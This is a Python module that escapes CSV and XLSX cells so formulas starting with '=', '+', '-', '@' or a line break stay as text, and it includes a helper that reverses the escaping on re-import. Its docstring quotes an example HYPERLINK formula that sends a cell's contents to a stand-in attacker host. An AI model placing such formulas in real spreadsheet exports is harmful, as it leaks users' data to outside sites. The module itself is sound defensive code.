"""Cells of every CSV and XLSX file the product writes, safe to open in a spreadsheet.

A cell typed as `=HYPERLINK("https://evil.example/?"&A2, "policy")` (or starting with `+`,
`-`, `@`, a tab or a line break) is a live formula to Excel, LibreOffice and Google Sheets:
it can send the sheet's other cells to a website or run a command through DDE. Every writer
passes its cells through here, so such text is written with a leading apostrophe and stays
text; numbers, dates and text that spreadsheets read as plain numbers are left alone.
`cell_unescaped` takes the apostrophe off again when one of our files is imported back.
"""

import csv
import re
from collections.abc import Iterable

import tablib

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# "-3", "+1.5": a spreadsheet reads these as numbers, never as formulas.
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def spreadsheet_cell(value):
    """`value` as a cell that a spreadsheet shows as text or a number, never runs."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def spreadsheet_row(values: Iterable) -> list:
    return [spreadsheet_cell(value) for value in values]


def spreadsheet_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of `dataset` (headers, title and every row) with each cell made safe."""
    safe = tablib.Dataset(title=dataset.title)
    if dataset.headers:
        safe.headers = spreadsheet_row(dataset.headers)
    for row in dataset:
        safe.append(spreadsheet_row(row))
    return safe


def cell_unescaped(value: str) -> str:
    """The text a cell held before `spreadsheet_cell` (for re-importing our own exports)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def spreadsheet_csv_writer(handle, **options) -> "SafeCsvWriter":
    """`csv.writer(handle, **options)` whose rows go through `spreadsheet_row`."""
    return SafeCsvWriter(csv.writer(handle, **options))


class SafeCsvWriter:
    def __init__(self, writer):
        self.writer = writer

    def writerow(self, row: Iterable):
        return self.writer.writerow(spreadsheet_row(row))

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)
